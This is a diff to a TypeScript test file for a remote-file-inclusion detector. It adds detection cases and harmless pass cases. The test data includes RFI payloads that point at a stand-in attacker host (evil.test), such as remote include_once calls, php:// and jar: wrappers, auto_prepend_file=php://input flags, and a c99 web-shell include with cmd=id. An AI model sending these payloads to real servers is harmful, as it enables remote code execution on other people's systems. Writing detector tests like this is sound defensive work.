@@ -3,6 +3,12 @@ import { remoteFileInclusion } from './remote-file-inclusion.ts';
 
 testDetector(remoteFileInclusion, {
   detects: [
+    { text: 'http:http://evil.test/a.php', confidence: 'high' },
+    { text: 'page=//evil.test/x.php?', confidence: 'high' },
+    { text: 'jar:http://evil.test/a.jar!/B.class', confidence: 'high' },
+    { text: 'php://filter/read=string.rot13/resource=https://evil.test/a.txt', confidence: 'high' },
+    { text: 'include_once("http://evil.test/a.txt")', confidence: 'high' },
+    { text: '-d allow_url_include=1 -d auto_prepend_file=php://input', confidence: 'high' },
     { text: '/index.php?page=http://evil.test/x.txt?', confidence: 'high', part: 'http://evil.test/x.txt?' },
     { text: '/index.php?page=http://evil.test/x.txt', confidence: 'high' },
     { text: '/a/b.php?root_path=https://evil.test/c99.txt?&cmd=id', confidence: 'high' },
@@ -40,6 +46,9 @@ testDetector(remoteFileInclusion, {
     { text: '/files?template=http://evil.test/x.inc', confidence: 'medium' },
   ],
   passes: [
+    '//cdn.example.org/lib/app.js',
+    'allow_url_include = Off',
+    'const a = require("./a.php")',
     'https://example.org/',
     'https://example.org/script.js',
     'https://example.org/logo.png',
